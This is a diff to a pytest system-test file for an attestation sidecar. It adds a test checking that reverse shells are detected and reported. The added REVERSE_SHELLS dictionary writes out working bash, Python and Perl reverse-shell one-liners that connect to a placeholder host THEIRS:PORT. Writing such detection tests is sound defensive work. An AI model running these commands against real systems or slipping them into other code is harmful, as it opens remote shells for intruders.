@@ -10,6 +10,8 @@ import pytest
 
 from attestation.channel import Scope
 from attestation.facts import ExecutionFact, Opened, StdioFact
+from attestation.patterns import matches
+from policies.appraise.sockets import SHELLS
 from tests.system.measurer.conftest import needs_root
 from tests.system.measurer.networks import ALONE, OURS, THEIRS, Elsewhere, inside
 from tests.system.measurer.stage import Sidecar, User, Workload
@@ -62,6 +64,28 @@ def test_a_shell_that_is_started_on_a_connection_is_told_at_once_with_its_other_
         assert (told.descriptors, told.protocol) == ((0, 1, 2), "TCP")
         assert (told.opened, told.remote) == (Opened.HERE, f"{THEIRS}:{elsewhere.port}")
         assert told.process.executable == sidecar.seen(ExecutionFact)[-1].path
+
+
+REVERSE_SHELLS = {
+    "bash": "['bash', '-c', 'exec bash -i >& /dev/tcp/THEIRS/PORT 0>&1']",
+    "python": "['python3', '-c', 'import os, pty, socket; s = socket.create_connection((\\'THEIRS\\', PORT));"
+    " [os.dup2(s.fileno(), each) for each in (0, 1, 2)]; os.execv(\\'/bin/sh\\', [\\'sh\\'])']",
+    "perl": "['perl', '-MIO', '-e', '$c = IO::Socket::INET->new(q(THEIRS:PORT)); STDIN->fdopen($c, q(r));"
+    " $~->fdopen($c, q(w)); system $_ while <>']",
+}
+
+
+@needs_root
+@pytest.mark.parametrize("name", REVERSE_SHELLS)
+def test_a_reverse_shell_out_of_the_books_is_told(
+    sidecar: Sidecar, workload: Workload, elsewhere: Elsewhere, name: str
+) -> None:
+    command = REVERSE_SHELLS[name].replace("THEIRS", THEIRS).replace("PORT", str(elsewhere.port))
+    workload.do(f"shell = subprocess.Popen({command})")
+    told = sidecar.expect(StdioFact)
+    assert (told.opened, told.remote) == (Opened.HERE, f"{THEIRS}:{elsewhere.port}")
+    assert matches(told.process.executable, SHELLS)
+    workload.do("shell.kill(); shell.wait()")
 
 
 @needs_root
